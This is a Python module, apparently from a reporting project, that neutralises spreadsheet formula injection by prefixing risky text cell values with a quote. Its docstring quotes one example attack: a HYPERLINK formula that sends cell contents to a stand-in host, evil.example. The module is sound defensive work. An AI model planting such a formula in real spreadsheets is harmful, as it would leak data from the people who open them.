"""Cells that a spreadsheet program will show as text, never run as a formula.

A title typed by a reporter, `=HYPERLINK("http://evil.example/?x="&A1, "click me")`, written
as it is into an XLSX cell becomes a live formula when a supervisor opens the weekly report.
Every XLSX the project writes passes its cell values through `safe_cell` (the reports and the
exam boards do it in `closeloop.reports.render.Sheet`).

What is neutralised follows OWASP's "CSV Injection" advice: a text value starting with `=`,
`+`, `-`, `@`, a tab or a carriage return gets a leading single quote. openpyxl writes a `str`
starting with `=` as a formula; with the quote it is a string cell, and a copy to CSV or a
re-save by another program keeps it inert. Full-width look-alikes (＝ ＋ － ＠), which some
spreadsheet programs with Chinese input accept too, get the same guard.
Numbers, dates and booleans pass unchanged (a negative number is a number, not a formula).
"""

from __future__ import annotations

from typing import Any

DANGEROUS_FIRST = ("=", "+", "-", "@", "\t", "\r")
# Full-width forms some spreadsheet programs also accept as the start of a formula.
DANGEROUS_FIRST_WIDE = ("＝", "＋", "－", "＠")


def neutralise(text: str) -> str:
    """`text` made safe to start a spreadsheet cell: a leading `'` before a formula trigger."""
    if text.startswith(DANGEROUS_FIRST) or text.startswith(DANGEROUS_FIRST_WIDE):
        return "'" + text
    return text


def safe_cell(value: Any) -> Any:
    """A value for a worksheet cell: text neutralised, anything else unchanged."""
    if isinstance(value, str):
        return neutralise(value)
    return value


def safe_row(values: list[Any]) -> list[Any]:
    return [safe_cell(v) for v in values]
